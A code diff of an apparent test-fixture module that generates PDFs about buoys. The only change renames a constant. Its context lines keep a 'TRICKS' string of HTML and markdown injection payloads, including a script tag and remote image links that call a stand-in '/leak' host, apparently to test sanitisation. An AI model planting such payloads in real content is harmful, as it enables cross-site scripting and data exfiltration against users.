@@ -8,7 +8,7 @@ FOREIGN = "http://203.0.113.9/leak"  # an address kept for documentation: nothin
 TRICKS = (
     f'![a]({FOREIGN}1.png) <img src="{FOREIGN}2.png"> <script>window.hacked=1;fetch("{FOREIGN}3")</script> [b](javascript:window.hacked=1)'
 )
-SIGNALS = ("a green light", "two red flags", "a white flash every four seconds", "a yellow cross")
+FEATURES = ("a green light", "two red flags", "a white flash every four seconds", "a yellow cross")
 
 
 def pdf(text: str, title: str = "") -> bytes:
@@ -23,7 +23,7 @@ def long_pdf(pages: int) -> bytes:
     """Many pages, each about a buoy of its own."""
     made = pymupdf.open()
     for number in range(1, pages + 1):
-        signal = SIGNALS[number % len(SIGNALS)]
+        signal = FEATURES[number % len(FEATURES)]
         text = f"Chapter {number}. The buoy {number} shows {signal}. Ships keep {number + 40} metres away from it. " * 6
         made.new_page().insert_textbox((50, 50, 545, 790), text, fontsize=11)
     return bytes(made.tobytes(deflate=True))
